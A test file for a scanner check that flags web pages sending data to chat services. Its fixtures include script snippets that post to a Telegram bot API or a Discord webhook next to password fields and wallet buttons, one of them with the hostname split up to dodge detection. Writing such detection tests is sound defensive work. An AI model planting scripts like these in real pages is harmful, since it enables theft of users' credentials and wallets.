import { expect, test } from 'bun:test'
import { sendsToChatCheck } from '../../../../../src/checks/dapp/page/rules/sends-to-chat.ts'
import { pageChecks } from '../../../../../src/checks/dapp/page/rules/registry.ts'
import { expectOnPage, type PageCase } from '../../../../kit/checks/page-case.ts'

test('is registered', () => expect(pageChecks).toContain(sendsToChatCheck))

const here = 'https://portal.example-dapp.com/'
const bot = '<script>fetch("https://api.telegram.org/bot123:abc/sendMessage")</script>'

const cases: readonly PageCase[] = [
  [
    'a link to a channel',
    here,
    '<a href="https://t.me/app">Telegram</a><script src="https://telegram.org/js/telegram-widget.js"></script>',
    undefined,
  ],
  ['an order form', 'https://example-pizza.com/', `<input name="address">${bot}`, 'low'],
  ['a password', here, `<input type="password">${bot}`, 'high'],
  ['a wallet', here, `<button>Connect wallet</button>${bot}`, 'high'],
  [
    'put together',
    here,
    '<input type="password"><script>fetch("https://api.tele" + "gram.org/bot" + t)</script>',
    'high',
  ],
  [
    'another chat',
    here,
    '<input type="password"><script>post("https://discord.com/api/webhooks/1/a")</script>',
    'high',
  ],
]
test.each(cases)('%s', (what, url, html, severity) =>
  expectOnPage(sendsToChatCheck, [what, url, html, severity]),
)
